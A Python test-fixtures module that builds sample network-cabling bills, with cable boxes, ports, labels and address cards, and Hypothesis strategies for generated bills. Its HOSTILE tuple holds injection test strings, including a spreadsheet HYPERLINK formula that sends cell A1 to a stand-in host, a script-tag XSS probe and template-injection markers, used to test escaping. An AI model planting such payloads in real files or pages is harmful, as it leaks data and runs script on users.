"""Bills for tests: one with every kind of row and hostile names, an empty one, and generated small ones."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterable, Iterator
from decimal import Decimal
from functools import cache
from ipaddress import IPv4Address

from hypothesis import strategies as st
from strategies import device_names, free_texts, names, port_names

from netaudit.model.bill import Bill, Box, Bulk, Cut, FreePorts, RunLength
from netaudit.model.goods import Goods, Item, Total
from netaudit.model.moving import Acceptance, AddressCard, BenchTest, Label, Mount, PortRow, Setting, Step
from netaudit.model.place import PortRef
from netaudit.model.plan import Price
from netaudit.model.specification import PortNeed, Specification

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-1+1", "@SUM(1+1)", "＝1+1", "＋1", "－1", "＠x",
    " =1+1", "'=1+1", "a;=1+1", "<script>alert(1)</script>", "{{ 7 * 7 }}", "{% raw %}", "{cable}", "%s", "&amp;",
    '"quoted", with a comma', "_x0041_", "שלום", "می\u200cخواهم", "日本語", "http://evil.example/", "007", "1e5", "x" * 64,
)  # fmt: skip
"""Names that a plan allows and that some program takes for something else than text."""
LEASE = IPv4Address("192.168.44.120")


def euros(amount: str) -> Price:
    """A price in euros."""
    return Price(Decimal(amount), "EUR")


def port(text: str) -> PortRef:
    """A port as people write it."""
    return PortRef(*text.split("/", maxsplit=1))


def empty_bill() -> Bill:
    """The bill of a plan that needs nothing."""
    return Bill(
        file="boathouse.yaml", plan=None, buy=(), bulk=(), modules=(), parts=(), totals=(), unpriced=0, lengths=(),
        measure=(), identify=(), installed=(), owned=(), labels=(), ports=(), free=(), specifications=(), bench=(),
        unplug=(), plug=(), accept=(), cards=(), remarks=(),
    )  # fmt: skip


CORD = Item(Goods("cord", None, "6A", False, 26, "rj45 - rj45", 3.0), 4, 1, ("C01", "C02", "C03", "C04"), euros("7.20"))
SCREENED = Item(Goods("cord", None, "6A", True, None, "rj45 - rj45", 0.1 + 0.2), 1, 1, (HOSTILE[0],))
FIBRE = Item(Goods("fibre cord", "12 fibres", "OM4", None, None, "mpo - mpo", 30.48), 11, 2, ("F01",), euros("41.355"))
TWINAX = Item(
    Goods("twinax", None, "twinax", None, None, "sfp+ - sfp+", 1.0), 2, 1, ("D01", "D02"), Price(Decimal(19), "GBP")
)
UNMEASURED = Item(Goods("cord", None, "6A", False, None, None, None), 1, 1, ("C09",))
MODULE = Item(
    Goods("module", "10GBASE-SR"),
    2,
    1,
    ("core/10", "vault/more"),
    Price(Decimal("27.5"), "EUR"),
)
JACK = Item(Goods("jack", None, "6A", False), 6, 1, ("W02", "W03", HOSTILE[2]), euros("0.995"))
PANEL = Item(Goods("panel", "24 x rj45", "6A", False), 1, 0, ("bay-panel",))
SWITCH = Item(Goods("switch"), 1, 0, (HOSTILE[11],))

WALLS = Bulk(
    category="6A",
    screened=False,
    boxes=(
        Box(1, 304.8, 222.8, euros("129.90")),
        Box(2, 304.8, 284.3, euros("129.90")),
        Box(3, 100.0, 9.7, euros("49")),
    ),
    cuts=(
        Cut(1, "W02", 41.0, 40.0, 263.8),
        Cut(1, HOSTILE[2], 41.0, 40.0, 222.8),
        Cut(2, "W03", 20.5, 19.5, 284.3),
        Cut(3, "W04", 90.3, 89.3, 9.7),
    ),
    objective="lowest price",
    lower_bound=1,
    price_bound=euros("308.80"),
    proved_optimal=True,
    unmeasured=("W09",),
    too_long=("W10",),
)
SCREENED_WALLS = Bulk(
    category="7A",
    screened=True,
    boxes=(Box(1, 100.0, 9.999999999999),),
    cuts=(Cut(1, "S01", 60.00000000000001, 59.0, 40.0), Cut(1, "S02", 30.0, 29.0, 9.999999999999)),
    objective="fewest boxes",
    lower_bound=1,
    price_bound=None,
    proved_optimal=False,
)
UNMEASURED_WALLS = Bulk(
    category="5e",
    screened=False,
    boxes=(),
    cuts=(),
    objective="fewest boxes",
    lower_bound=None,
    price_bound=None,
    proved_optimal=None,
    unmeasured=("W11", HOSTILE[8]),
)

SEAT = AddressCard(
    device="cut-1",
    role="station",
    settings=(
        Setting(
            port("cut-1/wire"), "en5", "media", ("10.44.20.11/24", "fd00::11/64"), 9000, None,
            netmasks=("255.255.255.0", None),
        ),
        Setting(port("cut-1/air"), None, "office", ("lease",), None, IPv4Address("192.168.44.1"), netmasks=(None,)),
        Setting(
            port("cut-1/wire"), "en5", "sound", ("10.44.30.11/24",), None, None, vlan=30, tagged=True,
            netmasks=("255.255.255.0",),
        ),
    ),
    mounts=(
        Mount("vault", (IPv4Address("10.44.20.10"),), port("cut-1/wire"), "media", (IPv4Address("192.168.44.10"),)),
        Mount("attic", (), None, None, ()),
    ),
    mounted_by=(),
    leave=("Type no router in at wire.",),
    mind=("Set packets of 9000 octets at both ends, or nowhere.",),
)  # fmt: skip
VAULT = AddressCard(
    device="vault",
    role="storage",
    settings=(Setting(port("vault/fast"), None, None, (), None, None),),
    mounts=(),
    mounted_by=(("cut-1", IPv4Address("10.44.20.10")), (HOSTILE[0], None)),
    leave=(),
)
SPECIFICATION = Specification(
    device=HOSTILE[11],
    needs=(
        PortNeed("rj45", 10_000_000_000, 6, (port("core/1"), port("core/2"))),
        PortNeed(None, None, 1, (port("core/12"),)),
    ),
    packet_octets=9000,
    bonds=1,
    vlans=(20, 44),
    spanning_tree=True,
    watts=41.5,
    notes=("It hangs in the cutting room, so listen to its fans first.",),
)


def full_bill() -> Bill:
    """A bill with every kind of row, known and unknown, in two currencies, with hostile names among the others."""
    buy, modules, parts = (CORD, SCREENED, FIBRE, TWINAX, UNMEASURED), (MODULE,), (JACK, PANEL, SWITCH)
    bulk = (WALLS, SCREENED_WALLS, UNMEASURED_WALLS)
    return Bill(
        file="boathouse.yaml",
        plan='Boathouse "cutting" rooms & <attic>',
        buy=buy,
        bulk=bulk,
        modules=modules,
        parts=parts,
        totals=(Total("EUR", Decimal("971.880"), 6), Total("GBP", Decimal(57), 1)),
        unpriced=7,
        lengths=(
            RunLength("C05", 2.2000000000000002, "12 units of 44.45 mm, 0.53 m, and a loop of 1.67 m"),
            RunLength(HOSTILE[2], 40.0, "loft-to-bay 31 m, and 9 m of slack"),
        ),
        measure=("C09", "W09", "W11", HOSTILE[8]),
        identify=("W12",),
        installed=("W01", "W12"),
        owned=("C06",),
        labels=(
            Label("C01", "from", port("cut-1/wire"), (port("loft-plate/1"),), "C01 cut-1/wire > loft-plate/1"),
            Label("C01", "to", port("loft-plate/1"), (port("cut-1/wire"),), "C01 loft-plate/1 > cut-1/wire"),
            Label("B01", "from", port("core/13"), (port("vault/a"), port("vault/b")), "B01\ncore/13 > vault/a, vault/b"),
            *(
                Label(name, "from", PortRef(name.replace("/", "|"), "1"), (port("core/1"),), f"{name} core/1")
                for name in HOSTILE
            ),
        ),
        ports=(
            PortRow(
                port("cut-1/wire"), "rj45", None, "C01", port("loft-plate/1"), port("core/1"), "media",
                (IPv4Address("10.44.20.11"),), 10_000_000_000,
            ),
            PortRow(
                port("core/10"), "sfp+", "10GBASE-SR", "F01", port("vault/more"), port("vault/more"), None,
                (), 2_500_000_000,
            ),
            PortRow(port("core/ge/0/11"), None, None, None, None, None, None, (), None),
            PortRow(
                port("vault/slow"), "rj45", None, HOSTILE[0], port("core/2"), port("core/2"), HOSTILE[3],
                (IPv4Address("192.168.44.10"), LEASE), 100_000_000,
            ),
        ),
        free=(
            FreePorts("core", "rj45", 10_000_000_000, 2, 8),
            FreePorts("bay-panel", "rj45", None, 20, 24),
            FreePorts(HOSTILE[11], None, None, 0, 4),
        ),
        specifications=(SPECIFICATION,),
        bench=(
            BenchTest("cord 6A, 26 AWG, 3 m", 5, "Plug it between two seats: both show 10 Gb/s."),
            BenchTest("module 10GBASE-SR", 3, "=SUM looks like a formula; it is not one."),
        ),
        unplug=(Step(1, "seats", "C06", port("cut-1/wire"), (port("core/1"),)),),
        plug=(
            Step(1, "storage", "D01", port("vault/fast"), (port("core/9"),)),
            Step(2, "seats", HOSTILE[0], port("cut-1/wire"), (port("loft-plate/1"), port("loft-plate/2"))),
        ),
        accept=(
            Acceptance("C01", port("cut-1/wire"), (port("loft-plate/1"),), 10_000_000_000, "cut-1/wire and core/1"),
            Acceptance("B01", port("core/13"), (port("vault/a"), port("vault/b")), None, ""),
            Acceptance(HOSTILE[1], port("core/2"), (port("vault/slow"),), 1_000_000_000, "core/2 and vault/slow"),
            Acceptance("W09", port("loft-plate/4"), (port("bay-panel/4"),), None, "see that both ends are there", shown=False),
        ),
        cards=(SEAT, VAULT),
        before_moving=("Check that the backup of the storage can be read.",),
        after_moving=("Switch the switches on first, then the storage.",),
        unnamed=(port("core/14"), PortRef(HOSTILE[11], "fast")),
        remarks=("Cable in walls is bought by the fire class that the local code asks for.", "W10 is longer than any box."),
        stopped=True,
    )  # fmt: skip


@cache
def _prices() -> st.SearchStrategy[Price | None]:
    amounts = st.decimals(0, 10**6, places=3)
    return st.one_of(st.none(), st.builds(Price, amounts, st.sampled_from(("EUR", "CHF", "$"))))


def _texts(least: int = 0) -> st.SearchStrategy[tuple[str, ...]]:
    return st.lists(st.one_of(names(), st.sampled_from(HOSTILE)), min_size=least, max_size=3).map(tuple)


@cache
def _items(least_spares: int) -> st.SearchStrategy[tuple[Item, ...]]:
    goods = st.builds(
        Goods,
        st.sampled_from(("cord", "fibre cord", "twinax", "module", "jack", "panel")),
        st.one_of(st.none(), free_texts()),
        st.sampled_from((None, "6A", "OM4")),
        st.sampled_from((None, False, True)),
        st.sampled_from((None, 24, 28)),
        st.sampled_from((None, "rj45 - rj45")),
        st.one_of(st.none(), st.floats(1e-6, 10_000)),
    )
    return st.lists(
        st.builds(Item, goods, st.integers(1, 500), st.integers(least_spares, 50), _texts(1), _prices()), max_size=4
    ).map(tuple)


@st.composite
def _bulks(draw: st.DrawFn) -> Bulk:
    """Boxes with cuts that fit, in whole millimetres."""
    boxes, cuts = [], []
    for number in range(1, draw(st.integers(0, 3)) + 1):
        size_mm = draw(st.sampled_from((100_000, 304_800, 500_000)))
        runs_mm = draw(st.lists(st.integers(1, size_mm // 4), min_size=1, max_size=4).map(sorted))
        boxes.append(Box(number, size_mm / 1000, (size_mm - sum(runs_mm)) / 1000, draw(_prices())))
        left_mm = size_mm
        for run_mm in reversed(runs_mm):
            left_mm -= run_mm
            cuts.append(Cut(number, draw(names()), run_mm / 1000, run_mm / 1000, left_mm / 1000))
    known = bool(boxes)
    return Bulk(
        draw(st.sampled_from(("5e", "6A"))), draw(st.booleans()), tuple(boxes), tuple(cuts), "fewest boxes",
        len(boxes) if known else None, None, True if known else None, draw(_texts(0 if known else 1)), draw(_texts()),
    )  # fmt: skip


def _box_costs(bulk: Bulk) -> Iterator[Price | None]:
    """What the boxes of each size and price cost together, and nothing known for the runs that no box counts."""
    for (_, price), count in Counter((box.size_m, box.price) for box in bulk.boxes).items():
        yield price and price._replace(amount=price.amount * count)
    if bulk.unmeasured or bulk.too_long:
        yield None


def totals_of(costs: Iterable[Price | None]) -> tuple[tuple[Total, ...], int]:
    """Totals in each currency, and how many rows have no cost."""
    sums: dict[str, Total] = {}
    missing = 0
    for cost in costs:
        if cost is None:
            missing += 1
        else:
            old = sums.get(cost.currency, Total(cost.currency, Decimal(0), 0))
            sums[cost.currency] = Total(cost.currency, old.amount + cost.amount, old.rows + 1)
    return tuple(sums.values()), missing


@st.composite
def bills(draw: st.DrawFn) -> Bill:
    """Small bills whose totals are right."""
    buy, modules, parts = draw(_items(1)), draw(_items(1)), draw(_items(0))
    bulk = tuple(draw(st.lists(_bulks(), max_size=2)))
    costs = [cost for one in bulk for cost in _box_costs(one)]
    totals, unpriced = totals_of((*(item.cost for item in (*buy, *modules, *parts)), *costs))
    refs = st.builds(PortRef, device_names(), port_names())
    rates = st.sampled_from((None, 0, 100_000_000, 2_500_000_000, 10_000_000_000))
    far = st.lists(refs, min_size=1, max_size=2).map(tuple)
    labels = st.builds(Label, names(), st.sampled_from(("from", "to")), refs, far, free_texts())
    accept = st.builds(Acceptance, names(), refs, far, rates, free_texts(), st.booleans())
    return Bill(
        file=draw(names()),
        plan=draw(st.one_of(st.none(), names())),
        buy=buy,
        bulk=bulk,
        modules=modules,
        parts=parts,
        totals=totals,
        unpriced=unpriced,
        lengths=tuple(draw(st.lists(st.builds(RunLength, names(), st.floats(0.001, 1000), free_texts()), max_size=2))),
        measure=draw(_texts()),
        identify=draw(_texts()),
        installed=draw(_texts()),
        owned=draw(_texts()),
        labels=tuple(draw(st.lists(labels, max_size=2))),
        ports=(),
        free=tuple(draw(st.lists(st.builds(FreePorts, device_names(), st.none(), rates, st.just(1), st.just(2)), max_size=1))),
        specifications=(),
        bench=(),
        unplug=(),
        plug=tuple(draw(st.lists(st.builds(Step, st.integers(1, 9), names(), names(), refs, far), max_size=2))),
        accept=tuple(draw(st.lists(accept, max_size=2))),
        cards=(),
        remarks=draw(_texts()),
        unnamed=tuple(draw(st.lists(refs, max_size=2))),
        stopped=draw(st.booleans()),
    )  # fmt: skip
